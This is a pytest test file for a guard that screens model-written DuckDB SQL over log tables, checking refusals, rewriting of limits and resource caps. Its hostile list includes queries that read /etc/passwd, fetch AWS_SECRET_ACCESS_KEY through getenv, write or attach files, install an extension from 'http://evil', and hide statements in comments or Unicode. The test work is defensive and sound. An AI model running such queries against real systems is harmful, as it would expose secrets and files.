"""The guard for model-written SQL: hostile queries refused with a reason, good ones pass, limits hold."""

from __future__ import annotations

from pathlib import Path

import pytest

from mantissa_log.lake import LogLake, parse
from mantissa_log.lake.query_guard import QueryRejected, check_query
from mantissa_log.lake.query_run import QueryFailed, QueryLimits, run_checked
from tests.lake.conftest import corpus_records, jsonl

TARGET = "/tmp/mantissa-guard-target"  # what a hostile query would write or attach; must never appear

HOSTILE: list[tuple[str, str]] = [
    # other files and table functions
    ("SELECT * FROM read_parquet('/etc/passwd')", "table function read_parquet"),
    ("SELECT * FROM read_csv('/etc/passwd')", "table function read_csv"),
    ("SELECT * FROM read_csv_auto('/etc/passwd')", "table function read_csv_auto"),
    ("SELECT * FROM read_json('/etc/passwd')", "table function read_json"),
    ("SELECT * FROM read_json_auto('/x.json')", "table function read_json_auto"),
    ("SELECT * FROM read_text('/etc/passwd')", "table function read_text"),
    ("SELECT * FROM read_blob('/etc/hostname')", "table function read_blob"),
    ("SELECT * FROM glob('/**')", "table function glob"),
    ("SELECT * FROM 'https://example.com/x.parquet'", "not a log table"),
    ("SELECT * FROM '/etc/passwd'", "not a log table"),
    ("SELECT * FROM cloudtrail, 'other.csv'", "not a log table"),
    ("SELECT * FROM parquet_metadata('/x.parquet')", "table function parquet_metadata"),
    ("SELECT * FROM parquet_scan('/x.parquet')", "table function"),
    ("SELECT * FROM sniff_csv('/etc/passwd')", "table function sniff_csv"),
    ("SELECT * FROM query_table('cloudtrail')", "table function query_table"),
    ("SELECT query('SELECT 1')", "function query is not allowed"),
    ("SELECT * FROM json_each('{}')", "table function json_each"),
    ("SELECT * FROM range(10)", "table function range"),
    ("SELECT * FROM generate_series(1, 10)", "table function generate_series"),
    ("SELECT * FROM unnest([1, 2])", "table function unnest"),
    ("SELECT * FROM (SELECT * FROM read_json('/x'))", "table function read_json"),
    ("SELECT raw FROM cloudtrail WHERE raw IN (SELECT * FROM read_text('/etc/passwd'))", "table function read_text"),
    ("SELECT 1 UNION SELECT * FROM read_csv('/etc/passwd')", "table function read_csv"),
    ("WITH a AS (SELECT 1) SELECT * FROM a, duckdb_settings()", "table function duckdb_settings"),
    ("SELECT * FROM \"read_parquet\"('/x')", "table function read_parquet"),
    # the catalog, settings, the environment, other sessions
    ("SELECT * FROM duckdb_settings()", "table function duckdb_settings"),
    ("SELECT * FROM duckdb_tables()", "table function duckdb_tables"),
    ("SELECT * FROM duckdb_tables", "not a log table"),
    ("SELECT * FROM duckdb_secrets()", "table function duckdb_secrets"),
    ("SELECT * FROM duckdb_extensions()", "table function duckdb_extensions"),
    ("SELECT * FROM pragma_table_info('cloudtrail')", "table function pragma_table_info"),
    ("SELECT * FROM pragma_version()", "table function pragma_version"),
    ("SELECT * FROM pragma_database_size()", "table function pragma_database_size"),
    ("SELECT * FROM information_schema.tables", "qualified table names"),
    ("SELECT * FROM pg_catalog.pg_tables", "qualified table names"),
    ("SELECT * FROM sqlite_master", "not a log table"),
    ("SELECT * FROM main.cloudtrail", "qualified table names"),
    ("SELECT * FROM memory.main.cloudtrail", "qualified table names"),
    ("SELECT getenv('AWS_SECRET_ACCESS_KEY')", "function getenv is not allowed"),
    ("SELECT current_setting('allowed_paths')", "function current_setting is not allowed"),
    ("SELECT current_setting('enable_external_access')", "function current_setting is not allowed"),
    ("SELECT raw FROM cloudtrail WHERE raw = (SELECT current_setting('home_directory'))", "current_setting"),
    ("SELECT list_transform([1], x -> getenv('HOME'))", "function getenv is not allowed"),
    ("SELECT getvariable('x')", "function getvariable is not allowed"),
    ("SELECT current_database(), current_schema()", "is not allowed"),
    ("SELECT version()", "function version is not allowed"),
    ("SELECT current_query()", "function current_query is not allowed"),
    ("SELECT json_serialize_sql('SELECT 1')", "function json_serialize_sql is not allowed"),
    ("SELECT main.lower('x')", "qualified function names"),
    ("SELECT sleep_ms(100000)", "function sleep_ms is not allowed"),
    ("SELECT pg_sleep(100)", "function pg_sleep is not allowed"),
    ("SELECT write_log('x')", "function write_log is not allowed"),
    ("SELECT txid_current()", "function txid_current is not allowed"),
    ("SELECT nextval('s')", "function nextval is not allowed"),
    ("SELECT repeat('x', 1000000000)", "function repeat is not allowed"),
    ("SELECT range(1000000000)", "function range is not allowed"),
    # statements that are not a read-only SELECT
    (f"ATTACH '{TARGET}.db' AS other", "not ATTACH"),
    ("DETACH other", "not DETACH"),
    (f"COPY (SELECT 1) TO '{TARGET}.csv'", "not COPY"),
    (f"COPY cloudtrail TO '{TARGET}.parquet' (FORMAT parquet)", "not COPY"),
    (f"EXPORT DATABASE '{TARGET}'", "does not parse"),
    (f"IMPORT DATABASE '{TARGET}'", ""),
    ("PRAGMA version", "not PRAGMA"),
    ("PRAGMA enable_profiling", "not PRAGMA"),
    ("INSTALL httpfs", "not INSTALL"),
    ("LOAD httpfs", "not LOAD"),
    ("FORCE INSTALL httpfs FROM 'http://evil'", ""),
    ("SET enable_external_access = true", "not SET"),
    ("SET allowed_directories = ['/']", "not SET"),
    ("RESET memory_limit", ""),
    ("CALL pragma_version()", "not CALL"),
    ("CALL duckdb_settings()", "not CALL"),
    ("CREATE TABLE t AS SELECT 1", "not CREATE"),
    ("CREATE MACRO getit() AS getenv('HOME')", "not CREATE"),
    ("CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')", ""),
    ("INSERT INTO cloudtrail SELECT * FROM cloudtrail", "not INSERT"),
    ("UPDATE cloudtrail SET raw = ''", "not UPDATE"),
    ("DELETE FROM cloudtrail", "not DELETE"),
    ("DROP VIEW cloudtrail", "not DROP"),
    ("ALTER VIEW cloudtrail RENAME TO x", "not ALTER"),
    ("DESCRIBE cloudtrail", "not DESCRIBE"),
    ("SUMMARIZE cloudtrail", "not SUMMARIZE"),
    ("SHOW TABLES", ""),
    ("EXPLAIN SELECT 1", "not EXPLAIN"),
    ("EXPLAIN ANALYZE SELECT 1", "not EXPLAIN"),
    ("VACUUM", "not VACUUM"),
    ("CHECKPOINT", "not CHECKPOINT"),
    ("USE other", "not USE"),
    ("BEGIN TRANSACTION", ""),
    ("PREPARE p AS SELECT 1", ""),
    ("EXECUTE p", ""),
    ("PIVOT cloudtrail ON event_id", "not PIVOT"),
    ("SELECT * INTO stolen FROM cloudtrail", "INTO has no place"),
    ("SELECT $1", "PLACEHOLDER has no place"),
    ("SELECT ?", "PLACEHOLDER has no place"),
    ("WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t", "recursive CTEs"),
    # several statements, and statements hidden in comments
    ("SELECT 1; SELECT 2", "exactly one SQL statement, got 2"),
    (f"SELECT 1; ATTACH '{TARGET}.db'", "exactly one SQL statement, got 2"),
    ("SELECT 1 -- harmless\n; DROP VIEW cloudtrail", "exactly one SQL statement, got 2"),
    ("SELECT 1 /* ; */ ; DROP VIEW cloudtrail", "a comment holds SQL"),
    (f"SELECT * FROM cloudtrail /* ; ATTACH '{TARGET}.db' */", "a comment holds SQL"),  # noqa: S608
    ("SELECT * FROM cloudtrail -- ; COPY cloudtrail TO 'x'", "a comment holds SQL"),
    ("SELECT 1 /* DROP VIEW cloudtrail */", "a comment holds SQL"),
    ("SELECT 1 /* nested /* SELECT 2 */ still */", ""),
    ("SELECT 1 --\u202e;\u2066 DROP", "invisible or control character"),
    # unicode tricks
    ("SELECT 1 \u200b", "invisible or control character (U+200B)"),
    ("SELECT\u2028* FROM cloudtrail", "invisible or control character (U+2028)"),
    ("SELECT 1\x00; DROP VIEW cloudtrail", "control character (U+0000)"),
    ("SELECT * FROM cloudtrail\uff1b DROP VIEW cloudtrail", "non-ASCII characters outside string literals"),
    ("\uff33\uff25\uff2c\uff25\uff23\uff34 1", "non-ASCII characters outside string literals"),
    ('SELECT * FROM "\u0441loudtrail"', "non-ASCII characters outside string literals"),
    ("SELECT * FROM cloudtrail WHERE raw = 'x'\u037e DROP VIEW cloudtrail", "non-ASCII"),
    ("SELECT \ufeff1", "invisible or control character (U+FEFF)"),
    ("SELECT * FROM cloud\u00adtrail", "invisible or control character (U+00AD)"),
    # nothing, or too much
    ("", "empty"),
    ("   ;  ", ""),
    ("-- just a comment", ""),
    ("SELECT " + "1 + " * 6000 + "1", "over 20000 characters"),
    ("SELECT " + "(" * 3000 + "1" + ")" * 3000, ""),
]


@pytest.mark.parametrize(("sql", "reason"), HOSTILE, ids=[f"{i:03d}" for i in range(len(HOSTILE))])
def test_hostile_sql_is_refused_with_a_reason(sql: str, reason: str) -> None:
    with pytest.raises(QueryRejected) as refused:
        check_query(sql, 100)
    assert str(refused.value), "a refusal always says why"
    assert reason in str(refused.value)
    assert not list(Path("/tmp").glob("mantissa-guard-target*"))


GOOD = [
    "SELECT event.userIdentity.userName AS user, count(*) AS n FROM cloudtrail "
    "WHERE event.eventName = 'ConsoleLogin' GROUP BY 1 ORDER BY n DESC LIMIT 10",
    "FROM cloudtrail",
    "select count(*) from CloudTrail;",
    "WITH logins AS (SELECT * FROM cloudtrail WHERE event.eventName = 'ConsoleLogin') SELECT count(*) FROM logins",
    "SELECT json_extract_string(raw, '$.requestParameters.bucketName'), raw->>'$.eventName' FROM cloudtrail",
    "SELECT date_trunc('hour', event_time) AS hour, count(*) FROM cloudtrail "
    "WHERE event_time >= TIMESTAMP '2024-01-01 00:00:00' - INTERVAL 1 DAY GROUP BY ALL ORDER BY 1",
    "SELECT * FROM cloudtrail WHERE lower(event.eventName) LIKE '%delete%' OR event.eventName ILIKE 'stop%' "
    "OR event.eventName SIMILAR TO 'Put.*' OR regexp_matches(event.eventName, '^Create') OR event.eventName GLOB 'A*'",
    "SELECT row_number() OVER (PARTITION BY event.eventName ORDER BY event_time) AS n, event_id FROM cloudtrail "
    "QUALIFY n = 1",
    "SELECT CAST(event_time AS DATE), event_time::DATE, extract(year FROM event_time), strftime(event_time, '%Y'), "
    "coalesce(event.errorCode, 'none'), CASE WHEN event.readOnly = 'true' THEN 1 ELSE 0 END FROM cloudtrail",
    "SELECT count(DISTINCT event_id) FILTER (WHERE event.errorCode IS NOT NULL), "
    "string_agg(DISTINCT event.eventName, ',') FROM cloudtrail",
    "SELECT a.event_id FROM cloudtrail a JOIN cloudtrail b ON a.event_id = b.event_id",
    "SELECT * EXCLUDE (raw) FROM cloudtrail -- only the parsed columns\n",
    "SELECT '\uff33\uff25\uff2c\uff25\uff23\uff34 \u2603 ; DROP' AS text_may_hold_anything",
    "SELECT event.eventName FROM cloudtrail UNION SELECT event.eventType FROM okta ORDER BY 1",
    "SELECT unnest(json_keys(raw)) AS key, count(*) FROM json GROUP BY 1",
    "SELECT list_transform([1, 2], x -> x + 1), [1, 2][1], {'a': 1}.a, len(raw), md5(raw) FROM cloudtrail",
]


@pytest.mark.parametrize("sql", GOOD)
def test_read_only_queries_over_log_tables_pass(sql: str) -> None:
    checked = check_query(sql, 100)
    assert checked.executed.endswith(f"LIMIT {checked.fetch}")
    assert checked.tables <= {"cloudtrail", "okta", "json"}


def test_the_row_limit_is_enforced_by_rewriting() -> None:
    assert check_query("SELECT * FROM cloudtrail", 100).executed == "SELECT * FROM cloudtrail LIMIT 101"
    assert check_query("SELECT * FROM cloudtrail LIMIT 5", 100).fetch == 5
    for unbounded in ("LIMIT 100000", "LIMIT 10%", "LIMIT (SELECT 7)", "FETCH FIRST 500 ROWS ONLY"):
        checked = check_query(f"SELECT * FROM cloudtrail {unbounded}", 100)  # noqa: S608
        assert checked.executed == "SELECT * FROM cloudtrail LIMIT 101", unbounded
    union = check_query("SELECT 1 UNION ALL SELECT 2 ORDER BY 1", 100)
    assert union.executed == "SELECT 1 UNION ALL SELECT 2 ORDER BY 1 LIMIT 101"
    commented = check_query("SELECT 1 -- the answer\n", 100)
    assert "answer" not in commented.executed
    assert "answer" not in commented.sql


@pytest.fixture
def filled(lake: LogLake) -> LogLake:
    lake.ingest("cloudtrail", parse("cloudtrail", jsonl(corpus_records(300))))
    return lake


def test_huge_results_are_cut_at_the_row_limit(filled: LogLake) -> None:
    checked = check_query("SELECT a.event_id, b.event_id FROM cloudtrail a, cloudtrail b", 250)
    result = run_checked(filled, checked, QueryLimits(max_rows=250))
    assert len(result.rows) == 250
    assert result.truncated
    exact = run_checked(
        filled, check_query("SELECT event_id FROM cloudtrail LIMIT 250", 250), QueryLimits(max_rows=250)
    )
    assert len(exact.rows) == 250
    assert not exact.truncated


def test_results_are_cut_at_a_total_size(filled: LogLake) -> None:
    checked = check_query("SELECT raw FROM cloudtrail", 1000)
    result = run_checked(filled, checked, QueryLimits(max_rows=1000, max_result_bytes=20_000, max_cell_chars=100))
    assert result.truncated
    assert 0 < len(result.rows) < 300
    assert all(len(row[0]) <= 101 for row in result.rows)


def test_a_slow_query_is_interrupted_at_the_time_limit(filled: LogLake) -> None:
    slow = check_query(
        "SELECT count(*) FROM cloudtrail a, cloudtrail b, cloudtrail c, cloudtrail d "
        "WHERE a.raw || b.raw || c.raw || d.raw LIKE '%never there%'",
        10,
    )
    with pytest.raises(QueryFailed) as stopped:
        run_checked(filled, slow, QueryLimits(timeout_seconds=1.0))
    assert stopped.value.code == "query_timeout"
    assert "MANTISSA_QUERY_TIMEOUT_SECONDS" in stopped.value.message


def test_a_query_over_its_memory_fails_instead_of_spilling(filled: LogLake) -> None:
    hungry = check_query("SELECT list(a.raw || b.raw || c.raw) FROM cloudtrail a, cloudtrail b, cloudtrail c", 10)
    with pytest.raises(QueryFailed) as stopped:
        run_checked(filled, hungry, QueryLimits(memory_limit_mb=64, timeout_seconds=60))
    assert stopped.value.code == "query_memory"
    assert "MANTISSA_QUERY_MEMORY_MB" in stopped.value.message


def test_failing_queries_say_why_without_paths(filled: LogLake) -> None:
    with pytest.raises(QueryFailed) as failed:
        run_checked(filled, check_query("SELECT event.noSuchField FROM cloudtrail", 10), QueryLimits())
    assert failed.value.code == "query_failed"
    assert "noSuchField" in failed.value.message
    assert str(filled.root) not in failed.value.message


def test_top_level_keys_of_the_event_are_columns_too(filled: LogLake) -> None:
    both = check_query(
        "SELECT eventName, userIdentity.userName, count(*) AS n FROM cloudtrail "
        "WHERE event.eventName = eventName AND event.userIdentity.userName IS NOT DISTINCT FROM userIdentity.userName "
        "GROUP BY ALL ORDER BY n DESC, 1, 2",
        1000,
    )
    rows = run_checked(filled, both, QueryLimits()).rows
    assert sum(row[2] for row in rows) == 300
    names = run_checked(filled, check_query("SELECT * FROM cloudtrail LIMIT 1", 10), QueryLimits()).columns
    assert [c.name for c in names][:6] == ["ingest_time", "event_time", "event_id", "raw", "event", "eventVersion"]


def test_values_come_back_as_json(filled: LogLake) -> None:
    checked = check_query(
        "SELECT event_time, CAST(event_time AS DATE) AS day, 1.5 AS decimal, [1, 2] AS list, "
        "{'k': 'v'} AS struct, NULL AS nothing, event.userIdentity AS who FROM cloudtrail ORDER BY event_time LIMIT 1",
        10,
    )
    row = run_checked(filled, checked, QueryLimits()).rows[0]
    assert row[0].endswith("Z")
    assert len(row[1]) == 10
    assert row[2:6] == [1.5, [1, 2], {"k": "v"}, None]
    assert isinstance(row[6], dict)
    assert "userName" in row[6]
